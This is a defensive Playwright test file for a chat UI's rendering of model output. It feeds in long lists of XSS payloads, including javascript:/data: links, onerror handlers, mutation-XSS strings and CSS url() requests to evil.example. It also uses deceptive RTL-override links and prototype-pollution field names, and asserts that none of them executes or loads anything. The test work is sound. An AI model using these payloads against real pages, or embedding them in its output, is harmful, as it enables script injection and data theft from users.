"""Hostile content: text, addresses and widgets of a model are not trusted."""

import re
from typing import Any

import pytest
from playwright.async_api import Page, expect

from tests.browser.scripted import asked, item, options, said, show
from tests.server import ROOT

pytestmark = pytest.mark.browser

OWNED = "window.owned=1"
TRICKS = {
    "addresses": [
        f"[x](javascript:{OWNED})",
        f"[x](JaVaScRiPt:{OWNED})",
        f"[x](<java\tscript:{OWNED}>)",
        f"[x](java&#10;script:{OWNED})",
        f"[x](&#106;&#97;&#118;&#97;script:{OWNED})",
        f"[x](javascript&colon;{OWNED})",
        f"[x](&#x01;javascript:{OWNED})",
        f"[x](\u00a0javascript:{OWNED})",
        f"[x](%6aavascript:{OWNED})",
        f"[x](javascript://%0a{OWNED})",
        f"[x](vbscript:{OWNED})",
        f"[x](data:text/html,<script>{OWNED}</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==)",
        f"[x](data:image/svg+xml,<svg/onload={OWNED}>)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x](view-source:https://evil.example)",
        "[x](filesystem:https://evil.example/1)",
        "[x](intent://evil.example#Intent;scheme=http;end)",
        f"<javascript:{OWNED}>",
        f"[x][1]\n\n[1]: javascript:{OWNED}",
        f'[x](https://ok.example "onmouseover={OWNED}")',
        f"[x](https://ok.example 'a\" onmouseover={OWNED} b=\"')",
        f"[x](https://ok.example/\"onmouseover=\"{OWNED})",
        "[https://bank.example](https://evil.example)",
        "[\u202egnp.exe](https://evil.example/exe.png)",
        "[\u2066isolated\u2069](https://evil.example)",
        "[x](//evil.example)",
        "[x](/\\evil.example)",
        "[x](chatkit-link://[)",
        "https://evil.example/`code`",
        "www.evil.example",
    ],
    "pictures": [
        "![x](https://evil.example/pixel.png)",
        "![x](//evil.example/pixel.png)",
        "![x](/\\evil.example/pixel.png)",
        "![x](\\\\evil.example\\pixel.png)",
        "![x](https:evil.example/pixel.png)",
        "![x](http:///evil.example/pixel.png)",
        "![x](https://127.0.0.1@evil.example/pixel.png)",
        "![x](https://evil.example/?q=what-was-said 'title')",
        "[![x](https://evil.example/pixel.png)](https://evil.example)",
        "![x][p]\n\n[p]: https://evil.example/pixel.png",
        f"![x](javascript:{OWNED})",
        f"![x](x\"onerror=\"{OWNED})",
        f'![x" onerror="{OWNED}](https://evil.example/x)',
        "![x](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)",
        "![x](ftp://evil.example/pixel.png)",
    ],
    "elements": [
        f"<script>{OWNED}</script>",
        f"<img src=x onerror='{OWNED}'>",
        f"<a href='java&#9;script:{OWNED}'>x</a>",
        "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
        "<form action='https://evil.example'><button>x</button></form>",
        f"<input autofocus onfocus={OWNED}>",
        f"<details open ontoggle={OWNED}>",
        f"<video><source onerror={OWNED}></video>",
        f"<body onload={OWNED}>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<object data=https://evil.example></object><embed src=https://evil.example>",
        f"<template><img src=x onerror={OWNED}></template>",
        f"<custom-element onclick={OWNED}>x</custom-element>",
        f"<button popovertarget=x onbeforetoggle={OWNED}>x</button>",
        "<img id=documentElement name=cookie><a id=options><a id=options name=api>",
        "<form id=document><input name=body></form>",
    ],
    "mutations": [
        f"<math><mtext><table><mglyph><style><img src=x onerror={OWNED}>",
        f"<svg></p><style><a id='</style><img src=1 onerror={OWNED}>'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={OWNED}>",
        f"<noscript><p title='</noscript><img src=x onerror={OWNED}>'>",
        f"<svg><style><!--</style><img src=x onerror={OWNED}>--></style></svg>",
        f"<math><annotation-xml encoding='text/html'><img src=x onerror={OWNED}></annotation-xml></math>",
        f"<svg><foreignObject><img src=x onerror={OWNED}></foreignObject></svg>",
        f"<svg><animate onbegin={OWNED} attributeName=x dur=1s>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={OWNED}>#x'/></svg>",
        f"<svg><a xlink:href='javascript:{OWNED}'><text y=20>x</text></a></svg>",
        f"<xmp><p title='</xmp><img src=x onerror={OWNED}>'>",
        f"`` ` ``<img src=x onerror={OWNED}>",
        f"```html\n<img src=x onerror={OWNED}>\n```",
        f"```\"><img src=x onerror={OWNED}>\ncode\n```",
        f"| a |\n|---|\n| <img src=x onerror={OWNED}> |",
        f"&lt;img src=x onerror={OWNED}&gt; &amp;lt;script&amp;gt;",
        f"<!--><img src=x onerror={OWNED}>-->",
        f"<![CDATA[<img src=x onerror={OWNED}>]]>",
        f"<?xml ?><img src=x onerror={OWNED}>",
    ],
    "styles": [
        "<style>*{background:url(https://evil.example)}</style>",
        "<svg><style>*{background:url(https://evil.example)}</style></svg>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
        "<p style='position:fixed;inset:0;background:red'>over everything</p>",
        "<div style='background:url(https://evil.example)'>x</div>",
        "<font face='x' style='src:url(https://evil.example)'>x</font>",
        "<table background=https://evil.example/x.png><tr><td background=https://evil.example/y.png>x</table>",
        "<p class='composer root'>x</p>",
    ],
}  # fmt: skip
# Elements that Markdown itself creates.
ALLOWED = (
    "A P BR HR EM STRONG DEL CODE PRE BLOCKQUOTE UL OL LI H1 H2 H3 H4 H5 H6 TABLE THEAD TBODY TR TH TD IMG INPUT DIV"
)
INSPECT = """(allowed) => {
    const rows = [...document.querySelector("openai-chatkit").shadowRoot.querySelectorAll(".markdown *")];
    const attributes = new Set(["href", "title", "src", "alt", "align", "class", "start", "type", "checked", "disabled",
        "target", "rel", "loading", "tabindex", "aria-label"]);
    const schemes = new Set(["http:", "https:", "mailto:", "tel:", "chatkit-link:"]);
    const complaints = [];
    for (const node of rows) {
        if (!allowed.split(" ").includes(node.tagName)) complaints.push(node.outerHTML);
        for (const { name } of node.attributes) if (!attributes.has(name)) complaints.push(node.outerHTML);
        if (node.tagName === "IMG") complaints.push(node.outerHTML);
        if (node.tagName === "INPUT" && (node.type !== "checkbox" || !node.disabled)) complaints.push(node.outerHTML);
        if (node.tagName !== "A" || !node.hasAttribute("href")) continue;
        if (!schemes.has(node.protocol)) complaints.push(node.outerHTML);
        if (node.protocol === "chatkit-link:") continue;
        const { target, rel, title } = node;
        if (target !== "_blank" || rel !== "noopener noreferrer nofollow") complaints.push(node.outerHTML);
        if (title !== node.getAttribute("href")) complaints.push(node.outerHTML);
    }
    return { looked: rows.length, complaints, owned: window.owned ?? null };
}"""


@pytest.mark.parametrize("group", TRICKS)
async def test_hostile_text_is_harmless(page: Page, group: str) -> None:
    tricks = TRICKS[group]
    items: list[dict[str, Any]] = []
    for number, trick in enumerate(tricks):
        parts = [{"type": kind, "value": trick} for kind in ("Markdown", "Text", "Title", "Caption")]
        items += [said(trick, number), item("widget", number, widget={"type": "Card", "children": parts})]
    for start in range(0, len(items), 50):
        await show(page, [asked(tricks[0]), *items[start : start + 50]], title=tricks[-1])
        await expect(page.locator(".row")).to_have_count(1 + len(items[start : start + 50]))
        seen = await page.evaluate(INSPECT, ALLOWED)
        assert seen["complaints"] == []
        assert seen["owned"] is None
        assert seen["looked"] > 0
    await page.get_by_role("button", name="History").click()
    await expect(page.locator("button.open")).to_be_visible()
    assert await page.evaluate("window.owned") is None


async def test_a_link_shows_where_it_leads_and_reads_in_its_order(page: Page) -> None:
    await show(
        page, [said("[https://bank.example](https://evil.example/) [\u202egnp.exe](https://evil.example/x) after")]
    )
    link = page.get_by_role("link", name="https://bank.example")
    await expect(link).to_have_attribute("title", "https://evil.example/")
    await expect(page.locator(".markdown")).to_have_text("https://bank.example gnp.exe after")
    assert await link.evaluate("node => getComputedStyle(node).unicodeBidi") == "isolate"


SOURCES = ROOT / "web" / "src" / "widgets"
EVIL = "https://evil.example/p.png"
MESS: dict[str, Any] = {
    **dict.fromkeys(
        ("size", "color", "style", "top", "x", "dark", "light", "label", "text", "icon", "name"), f"url({EVIL})"
    ),
    "action": {"type": 5},
    "dataKey": "__proto__",
    "labels": None,
    "type": {},
    "children": [{"type": "Text", "value": {}}],
}
VALUES: list[Any] = [
    f"url({EVIL})",
    f"javascript:{OWNED}",
    f"<img src=x onerror={OWNED}>",
    "1px;position:fixed;inset:0",
    f"var(--none, url({EVIL}))",
    f"image-set('{EVIL}' 1x)",
    EVIL,
    f"data:text/html,<script>{OWNED}</script>",
    f"data:image/svg+xml,<svg onload={OWNED}>",
    "__proto__",
    "constructor",
    "(((",
    "9" * 5_000,
    MESS,
    [None, "x", 5, MESS, [MESS]],
    [[[]]],
    None,
    True,
    -1e9,
    1e308,
]


def components() -> list[str]:
    """Return every type of component."""
    table = (SOURCES / "index.ts").read_text().partition("COMPONENTS")[2].partition("\n};")[0]
    return re.findall(r"^  (\w+):", table, re.MULTILINE)


def properties() -> list[str]:
    """Return every property that a component reads."""
    found = {name for path in SOURCES.glob("*.ts") for name in re.findall(r'\w\["(\w+)"\]', path.read_text())}
    return sorted(found - {"type"})


ODD = """() => {
    const { shadowRoot } = document.querySelector("openai-chatkit");
    return [...shadowRoot.querySelectorAll(".row.widget *")].filter((node) => {
        const style = getComputedStyle(node);
        const isPlaced = ["fixed", "sticky", "absolute"].includes(style.position) && !node.closest(".hidden");
        const acts = [...node.attributes].some(({ name }) => name.startsWith("on"));
        const loads = /url/.test(style.backgroundImage + style.borderImage + style.mask + style.cursor + style.filter);
        return isPlaced || acts || loads;
    }).map((node) => node.outerHTML.slice(0, 300));
}"""


async def look_at(page: Page, widgets: list[dict[str, Any]]) -> None:
    """Draw widgets, and assert that no widget did more than that."""
    await show(page, [asked("Hi"), *(item("widget", number, widget=widget) for number, widget in enumerate(widgets))])
    await expect(page.locator(".row")).to_have_count(1 + len(widgets))
    await expect(page.get_by_text("Something went wrong.")).to_have_count(0)
    odd = await page.evaluate(ODD)
    assert odd == []
    assert await page.locator(".row :is(script, iframe, object, embed, link, img)").count() == 0
    for link in await page.locator(".row a").all():
        assert re.match(r"https?://", await link.get_attribute("href") or "https://")
    assert await page.evaluate("window.owned ?? {}.polluted ?? null") is None


async def test_no_component_does_harm_with_all_its_properties_hostile(page: Page) -> None:
    assert len(components()) > 25
    assert len(properties()) > 50
    widgets = []
    for value in VALUES:
        hostile = dict.fromkeys(properties(), value)
        widgets.append({"type": "Card", "children": [{**hostile, "type": kind} for kind in components()]})
    await look_at(page, widgets)
    await look_at(page, [{**dict.fromkeys(properties(), value), "type": "ListView", "limit": 2} for value in VALUES])


@pytest.mark.parametrize("value", [f"url({EVIL})", MESS, [None, "x", MESS]], ids=["address", "object", "list"])
async def test_no_property_of_a_component_does_harm(page: Page, value: Any) -> None:
    await look_at(
        page,
        [
            {"type": "Card", "children": [{"type": kind, "children": [], name: value} for name in properties()]}
            for kind in components()
        ],
    )


async def test_endless_nesting_ends(page: Page) -> None:
    widget: dict[str, Any] = {"type": "Text", "value": "At the bottom"}
    for _ in range(400):
        widget = {"type": "Box", "children": [widget]}
    near: dict[str, Any] = {"type": "Text", "value": "Near"}
    await show(page, [asked("Hi"), item("widget", widget={"type": "Card", "children": [near, widget]}), said("And on")])
    await expect(page.get_by_text("Near")).to_be_visible()
    await expect(page.get_by_text("And on")).to_be_visible()
    await expect(page.get_by_text("At the bottom")).to_have_count(0)


async def test_an_item_that_cannot_be_drawn_takes_no_other_along(page: Page) -> None:
    await show(page, [asked("Hi"), item("workflow", workflow=None), said("And on")])
    await expect(page.get_by_text("Something went wrong.")).to_be_visible()
    await expect(page.get_by_text("And on")).to_be_visible()


async def test_a_widget_covers_nothing_but_itself(page: Page) -> None:
    over = {"type": "Box", "background": "red", "width": 5_000, "height": 5_000, "margin": {"top": -900, "x": -900}}
    await show(page, [asked("Hi"), said("Read me"), item("widget", widget={"type": "Basic", "children": [over]})])
    await page.locator(".scroll").evaluate("box => { box.scrollTop = 0; }")
    await page.get_by_text("Read me").click(timeout=5_000)
    await page.get_by_label("Message", exact=True).click(timeout=5_000)


async def test_fields_are_named_like_a_forms_own_parts(page: Page) -> None:
    own = ["elements", "style", "closest", "children", "action", "submit", "plain"]
    names = [*own, "__proto__.polluted", "a.constructor.b"]
    fields = [{"type": "Input", "name": name, "placeholder": f"The {name}", "defaultValue": name} for name in names]
    button = {"type": "Button", "label": "Save", "submit": True}
    form = {"type": "Form", "onSubmitAction": {"type": "save"}, "gap": 2, "children": [*fields, button]}
    requests = await show(page, [asked("Hi"), item("widget", widget={"type": "Card", "children": [form]})])
    await options(page, "theme: 'dark'")
    await page.get_by_label("The plain").fill("changed")
    await page.get_by_role("button", name="Save").click()
    await expect(page.get_by_role("button", name="Save")).to_be_enabled()
    [sent] = [each["params"]["action"] for each in requests if each["type"] == "threads.custom_action"]
    assert sent == {"type": "save", "payload": {**dict(zip(own, own, strict=True)), "a": {}, "plain": "changed"}}
    assert await page.evaluate("({}).polluted ?? null") is None


async def test_it_works_where_the_page_allows_nothing_but_itself(page: Page) -> None:
    async def strictly(route: Any) -> None:
        response = await route.fetch()
        headers = {**response.headers, "content-security-policy": "default-src 'self'"}
        await route.fulfill(response=response, headers=headers)

    await page.route("**/", strictly)
    chart = {"type": "Chart", "data": [{"d": "Mon", "n": 3}], "series": [{"type": "bar", "dataKey": "n"}], "xAxis": "d"}
    box = {"type": "Box", "background": "red", "padding": 4, "children": [{"type": "Text", "value": "In a box"}]}
    code = "# Title\n\n```python\nprint(1)\n```\n\n| a |\n|---|\n| 1 |\n\n- [x] done"
    await show(page, [asked("Hi"), said(code), item("widget", widget={"type": "Card", "children": [chart, box]})])
    response = await page.reload()
    assert response is not None
    assert response.headers["content-security-policy"] == "default-src 'self'"
    await expect(page.get_by_text("In a box")).to_be_visible()
    drawn = page.locator(".w-box").last
    assert await drawn.evaluate("node => getComputedStyle(node).backgroundColor") != "rgba(0, 0, 0, 0)"
    assert await page.locator(".markdown pre").evaluate("node => getComputedStyle(node).overflowX") == "auto"
    await page.get_by_role("button", name="History").click()
    await expect(page.locator("button.open")).to_be_visible()
